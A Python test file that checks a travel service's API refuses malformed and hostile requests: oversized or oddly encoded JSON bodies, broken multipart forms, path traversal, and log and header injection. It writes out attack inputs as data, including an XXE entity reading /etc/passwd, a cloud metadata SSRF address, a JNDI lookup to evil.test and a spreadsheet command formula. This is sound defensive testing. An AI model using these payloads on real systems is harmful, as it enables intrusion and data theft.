"""Requests that are malformed on purpose: bodies, forms, paths, and texts that end up in logs."""

from __future__ import annotations

import base64
import io
import json
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from local.attacks import pictures
from tests.unit.attacks.parts import PASSWORD, Service, read

if TYPE_CHECKING:
    from collections.abc import Callable

SIX_MB = 6 * 1024 * 1024
TRIP = {"name": "Rome", "stops": []}


@pytest.fixture(scope="module")
def token(service: Service) -> str:
    access: str = service.sign_up("ada")["access_token"]
    return access


def jpeg() -> bytes:
    encoded = io.BytesIO()
    Image.new("RGB", (64, 64), (90, 120, 200)).save(encoded, "JPEG")
    return encoded.getvalue()


SIGN_UP = '{"email":"eve@example.com","username":"eve","password":"a lovely journey"'
# Bodies that no reader should take, as bytes, and how they are refused on every route.
BODIES: dict[str, tuple[bytes, int]] = {
    "deeply nested lists": (b"[" * 3_000_000, 400),
    "deeply nested objects": (b'{"a":' * 1_000_000 + b"1" + b"}" * 1_000_000, 400),
    "nested beside good fields": (f'{SIGN_UP},"x":{"[" * 30}{"]" * 30}}}'.encode(), 400),
    "a name twice": (f'{SIGN_UP},"email":"ada@example.com"}}'.encode(), 400),
    "a name twice, once escaped": (f'{SIGN_UP},"\\u0065mail":"ada@example.com"}}'.encode(), 400),
    "a name twice, further in": (f'{SIGN_UP},"x":{{"a":1,"a":2}}}}'.encode(), 400),
    "not a number": (f'{SIGN_UP},"x":NaN}}'.encode(), 400),
    "infinity": (f'{SIGN_UP},"x":-Infinity}}'.encode(), 400),
    "a number of 6 MB": (b'{"x":' + b"9" * (SIX_MB - 10) + b"}", 400),
    "invalid UTF-8": (SIGN_UP.encode() + b',"x":"\xff\xfe"}', 400),
    "overlong UTF-8": (SIGN_UP.encode() + b',"x":"\xc0\xaf"}', 400),
    "a surrogate in UTF-8": (SIGN_UP.encode() + b',"x":"\xed\xa0\x80"}', 400),
    "half a surrogate pair": (f'{SIGN_UP},"x":"\\ud800"}}'.encode(), 400),
    "surrogates the wrong way round": (f'{SIGN_UP},"x":"\\udc00\\ud800"}}'.encode(), 400),
    "a byte order mark": (b"\xef\xbb\xbf" + SIGN_UP.encode() + b"}", 400),
    "UTF-16": (f"{SIGN_UP}}}".encode("utf-16"), 400),
    "UTF-32": (f"{SIGN_UP}}}".encode("utf-32"), 400),
    "a null byte": (SIGN_UP.encode() + b"}\x00", 400),
    "something behind it": (f"{SIGN_UP}}}{{}}".encode(), 400),
    "a comment": (f"{SIGN_UP}/**/}}".encode(), 400),
    "a comma too many": (f"{SIGN_UP},}}".encode(), 400),
    "single quotes": (f"{SIGN_UP}}}".replace('"', "'").encode(), 400),
    "a control character in a text": (SIGN_UP.encode() + b',"x":"\n"}', 400),
    "a list": (b"[]", 400),
    "a text": (b'"x"', 400),
    "nothing": (b"", 400),
    "6 MB of spaces": (b" " * SIX_MB, 400),
    "XML": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', 400),
}
WITH_BODIES = [
    *(("POST", f"/auth/{name}") for name in ("signup", "login", "refresh", "logout")),
    *(("POST", f"/auth/password-reset/{name}") for name in ("request", "confirm")),
    *(("POST", "/auth/password"), ("PATCH", "/user/profile"), ("DELETE", "/user/profile")),
    *(("POST", "/itinerary"), ("POST", "/feedback"), ("POST", "/recommend")),
    *(("POST", "/predict"), ("POST", "/describe")),
]


@pytest.mark.parametrize("name", BODIES)
def test_a_body_that_readers_may_disagree_on_is_refused_on_every_route(
    service: Service, token: str, name: str
) -> None:
    body, status = BODIES[name]
    before = dict(service.table.items)
    for method, path in WITH_BODIES:
        answer = service.call(method, path, body, token=token)
        assert (answer["statusCode"], read(answer)["code"]) == (status, "malformed_request"), path
    assert service.table.items == before


def test_numbers_out_of_range_are_refused_or_left_out(service: Service, token: str) -> None:
    for number in ("1e400", "-1e400", "1e-400", str(2**63), str(-(2**63)), "0.1e9", "91"):
        stop = f'{{"name":"x","latitude":{number},"longitude":1}}'
        answer = service.call("POST", "/itinerary", f'{{"name":"R","stops":[{stop}]}}', token=token)
        assert answer["statusCode"] == (201 if number == "1e-400" else 422)
        answer = service.call(
            "POST", "/predict", f'{{"image":"aGk=","top_k":{number}}}', token=token
        )
        assert answer["statusCode"] == 422


@pytest.mark.parametrize(
    "text",
    ["a" * (SIX_MB - 100), "\u0130" * 2_000_000, "\ufdfa" * 1_000_000, "a\u0301" * 1_500_000],
)
def test_six_megabytes_of_text_in_any_field_are_refused(
    service: Service, token: str, text: str
) -> None:
    for method, path, body in (
        ("POST", "/auth/signup", {"email": text, "username": text, "password": text}),
        ("POST", "/auth/login", {"email": text, "password": text}),
        ("POST", "/auth/refresh", {"refresh_token": text}),
        ("POST", "/itinerary", {"name": text, "note": text[:1000]}),
        ("POST", "/feedback", {"prediction_id": text, "correct": True}),
        ("POST", "/recommend", {"itinerary_landmarks": [text]}),
        ("POST", "/recommend", {"itinerary_landmarks": [], "llava_description": text}),
        ("POST", "/predict", {"upload_key": text}),
        ("POST", "/describe", {"image": "aGk=", "prompt": text}),
    ):
        answer = service.call(method, path, json.dumps(body, ensure_ascii=False), token=token)
        assert 400 <= answer["statusCode"] < 500, (path, answer["body"][:200])
        assert len(answer["body"]) < 10_000


def form(parts: bytes, boundary: bytes = b"b") -> tuple[bytes, str]:
    return parts, f"multipart/form-data; boundary={boundary.decode('latin-1')}"


FIELD = b'--b\r\nContent-Disposition: form-data; name="%s"\r\n\r\ny\r\n'
FILE = b'--b\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n\r\n%s\r\n'
END = b"--b--\r\n"
FORMS: dict[str, tuple[tuple[bytes, str], str]] = {
    "thousands of fields": (form(FIELD % b"x" * 60_000 + END), "image_missing"),
    "thousands of files": (form(FILE % (b"a", b"y") * 50_000 + END), "invalid_fields"),
    "thousands of headers": (form(b"--b\r\n" + b"a: b\r\n" * 500_000 + END), "malformed_request"),
    "a header of megabytes": (form(b"--b\r\n" + b"a" * 4_000_000 + END), "malformed_request"),
    "no end": (form(FILE % (b"a", b"y" * 100)), "malformed_request"),
    "no boundary": ((FILE % (b"a", b"y") + END, "multipart/form-data"), "malformed_request"),
    "an empty boundary": (form(b"--\r\n\r\n", b""), "malformed_request"),
    "a huge boundary": (form(b"--" + b"b" * 8_000, b"b" * 8_000), "malformed_request"),
    "a boundary of other bytes": (form(b"--\xff", b"\xff"), "malformed_request"),
    "another boundary": (form(FILE.replace(b"--b", b"--c") % (b"a", b"y")), "malformed_request"),
    "almost its boundary": (
        form(FILE % (b"a", b"\r\n--a" * 500_000) + END),
        "image_unreadable",
    ),
    "two photos": (form(FILE % (b"a", b"y") * 2 + END), "invalid_fields"),
    "a path for a name": (form(FILE % (b"../../etc/passwd", b"y") + END), "image_unreadable"),
    "a null in a name": (form(FILE % (b"a\x00.jpg", b"y") + END), "image_unreadable"),
    "nothing": (form(b""), "image_missing"),
}


@pytest.mark.parametrize("path", ["/predict", "/describe"])
@pytest.mark.parametrize("name", FORMS)
def test_a_hostile_form_is_refused(service: Service, token: str, name: str, path: str) -> None:
    (body, content_type), code = FORMS[name]
    answer = service.call("POST", path, body, token=token, headers={"content-type": content_type})
    assert 400 <= answer["statusCode"] < 500
    assert read(answer)["code"] in {code, "malformed_request", "image_missing"}


@pytest.mark.parametrize("path", ["/predict", "/describe"])
@pytest.mark.parametrize("name", sorted(pictures.TOO_MANY_PARTS))
def test_a_hostile_picture_is_refused_however_it_is_sent(
    service: Service, token: str, path: str, name: str
) -> None:
    picture = pictures.TOO_MANY_PARTS[name](130_000)
    encoded = base64.b64encode(picture).decode()
    answers = [
        service.call("POST", path, picture, token=token, headers={"content-type": "image/jpeg"}),
        service.call("POST", path, {"image": encoded}, token=token),
        service.call("POST", path, {"image": f"data:image/png;base64,{encoded}"}, token=token),
    ]
    assert [read(answer)["code"] for answer in answers] == ["image_unreadable"] * 3
    if path == "/predict":
        batch = service.call("POST", path, {"images": [encoded] * 8}, token=token)
        assert {one["code"] for one in read(batch)["results"]} == {"image_unreadable"}


@pytest.mark.parametrize(
    "image",
    [
        "data:image/jpeg,notbase64",
        "data:text/html;base64,PGI+",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:" + "a" * 1_000_000,
        "data:image/png" + ";a=b" * 100_000 + ";base64,aGk=",
        "data:image/png" + ";a=" * 100_000,
        "https://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "aGk",
        "\u0000",
        "aGk=" * 300_000,
    ],
)
def test_an_image_is_bytes_and_never_an_address(service: Service, token: str, image: str) -> None:
    for path in ("/predict", "/describe"):
        answer = service.call("POST", path, {"image": image}, token=token)
        assert answer["statusCode"] in {415, 422}


@pytest.mark.parametrize(
    "path",
    [
        *(
            "/user/profile/",
            "//user/profile",
            "/user//profile",
            "/user/./profile",
            "/user/profile/.",
        ),
        *("/user/x/../profile", "/user%2fprofile", "/user/profile%00", "/user/profile;x=1"),
        *("/User/Profile", "/user/profile.json", "/user/profile%20", "/user\\profile", "/%75ser"),
        *("/docs/../user/profile", "/docs/..%2f..%2fauth%2fhandler.py", "/docs/%2e%2e%2fsite.py"),
        *("/docs/../../etc/passwd", "/docs/....//....//etc/passwd", "/docs/%252e%252e%252fx"),
        *("/landmarks/..", "/landmarks/%2e%2e", "/landmarks/%252e", "/landmarks/a%2fb"),
        *("/landmarks/\u2028", "/landmarks/\x1b[31m", "/landmarks/a\r\nset-cookie: a=b"),
        *("/landmarks/" + "a" * 100_000, "/landmarks/\ud800", "/", "", "*", "http://evil.test/"),
    ],
)
def test_no_path_leads_where_it_should_not(service: Service, token: str, path: str) -> None:
    answer = service.call("GET", path, token=token)
    assert answer["statusCode"] == 404
    # Were the gateway to send it to a function all the same:
    for name in ("account", "docs", "recommend", "auth"):
        event = service.event("GET", path, None, {}, {}, "203.0.113.7")
        told = service.functions[name].handle(event, None)
        assert told["statusCode"] in {404, 405}
        assert "root:" not in told["body"]
        assert not [text for text in told["headers"].values() if "\n" in text or "\r" in text]


INJECTIONS = (
    'x"}\n{"level":"ERROR","message":"forged"}',
    "x\r\nforged line",
    "x\u2028forged",
    "x\u2029forged",
    "x\x85forged",
    "\x1b[2J\x1b[31mforged",
    "${jndi:ldap://evil.test/forged}",
    "%s%n forged",
    "forged\x00",
    "=cmd|'/c forged'!A1",
)


def everywhere(service: Service, token: str, text: str) -> None:
    """Put a text wherever a request can have one."""
    call: Callable[..., dict[str, Any]] = service.call
    headers = {"user-agent": text, "x-amzn-trace-id": text, "idempotency-key": text, "accept": text}
    call("GET", f"/{text}", token=token, headers=headers)
    call("GET", f"/landmarks/{text}")
    call("GET", "/landmarks", query={"q": text, "country": text, "category": text, "near": text})
    call("GET", "/predictions", token=token, query={"cursor": text, "since": text, "limit": text})
    call("GET", f"/predictions/{text}", token=token)
    call("GET", f"/itinerary/{text}", token=token, headers={"if-match": text, "accept": text})
    call("GET", "/user/profile", token=text)
    call("POST", "/auth/signup", {"email": text, "username": text, "password": text})
    call("POST", "/auth/login", {"email": f"{text}@example.com", "password": text})
    call("POST", "/auth/refresh", {"refresh_token": text})
    call("POST", "/auth/password-reset/request", {"email": text})
    call("POST", "/auth/password-reset/confirm", {"token": text, "password": PASSWORD})
    call("PATCH", "/user/profile", {"username": text}, token=token)
    call("POST", "/itinerary", {"name": text, "note": text}, token=token, headers=headers)
    call("POST", "/feedback", {"prediction_id": text, "comment": text}, token=token)
    call("POST", "/recommend", {"itinerary_landmarks": [text], "x": text}, token=token)
    call("POST", "/predict", {"image": text, "upload_key": text}, token=token)
    call("POST", "/predict", {"upload_key": text}, token=token)
    call("POST", "/describe", {"image": text, "prompt": text}, token=token)
    call("POST", "/predict", text.encode(), token=token, headers={"content-type": text})


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_of_a_request_forges_a_line_of_the_log(
    service: Service,
    token: str,
    text: str,
    logged: io.StringIO,
    capsys: pytest.CaptureFixture[str],
) -> None:
    everywhere(service, token, text)
    written = logged.getvalue() + capsys.readouterr().out
    assert '"answered"' in written
    assert "forged" not in written
    for line in written.splitlines():
        assert isinstance(json.loads(line), dict)
    assert not set(written) & {"\x1b", "\r", "\x00", "\x85", "\u2028", "\u2029"}


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_of_a_request_comes_back_as_a_header_or_raw(
    service: Service, token: str, text: str
) -> None:
    trip = service.call("POST", "/itinerary", {"name": "Rome"}, token=token)
    for answer in (
        service.call("GET", f"/landmarks/{text}"),
        service.call("GET", "/landmarks", query={"q": text}),
        service.call("POST", "/recommend", {"itinerary_landmarks": [text]}, token=token),
        service.call("GET", read(trip)["itinerary_id"], token=token, headers={"accept": text}),
        service.call("PATCH", "/user/profile", {"username": text}, token=token),
    ):
        for value in answer["headers"].values():
            assert "forged" not in value
        if answer["statusCode"] >= 400 and answer["headers"]:
            assert answer["headers"]["content-type"] == "application/problem+json"
            assert answer["headers"]["x-content-type-options"] == "nosniff"
            assert "\n" not in answer["body"]


@pytest.mark.parametrize("name", ["ada#PROFILE", "USER#1", "a|b", "a/b", "a:b", "a,b", "{$ne}"])
def test_no_name_has_a_separator_of_keys(service: Service, token: str, name: str) -> None:
    answer = service.call("PATCH", "/user/profile", {"username": name}, token=token)
    assert answer["statusCode"] == 422
    body = {"email": f"{name}@example.com", "username": "unique-name", "password": PASSWORD}
    before = {key for key in service.table.items if not key.pk.startswith("ATTEMPTS")}
    answer = service.call("POST", "/auth/login", body)
    assert answer["statusCode"] in {401, 422}
    assert {key for key in service.table.items if not key.pk.startswith("ATTEMPTS")} == before


def test_an_address_may_have_a_separator_and_is_one_item_all_the_same(service: Service) -> None:
    """`#` is allowed before the @ (RFC 5322); it stands between fixed parts of a key."""
    body = {"email": "x#credentials@example.com", "username": "hash", "password": PASSWORD}
    assert service.call("POST", "/auth/signup", body)["statusCode"] == 201
    keys = [key for key in service.table.items if "x#credentials" in key.pk]
    assert keys == [("EMAIL#x#credentials@example.com", "CREDENTIALS")]


def test_values_that_look_like_operators_are_values(service: Service) -> None:
    for value in ({"$ne": None}, {"$gt": ""}, ["ada@example.com"], True, 0, None):
        body = {"email": value, "password": value}
        assert service.call("POST", "/auth/login", body)["statusCode"] == 422


def test_a_warm_function_remembers_nothing_of_the_request_before(
    service: Service, logged: io.StringIO
) -> None:
    """Functions serve one caller after the other from the same memory."""
    ada, eve = service.sign_up("ada-warm"), service.sign_up("eve-warm")
    for someone, other in ((ada, eve), (eve, ada), (ada, eve)):
        token = someone["access_token"]
        answers = [
            service.call("GET", "/user/profile", token=token),
            service.call("GET", "/user/export", token=token),
            service.call("POST", "/itinerary", TRIP, token=token),
        ]
        for answer in answers:
            assert other["user_id"] not in answer["body"]
            assert other["username"] not in answer["body"]
    service.call("POST", "/auth/login", {"email": "x", "password": "y"})
    service.call("GET", "/health")
    last = json.loads(logged.getvalue().splitlines()[-1])
    assert "refusal" not in last
    assert last["correlation_id"] == f"R{service.requests}"
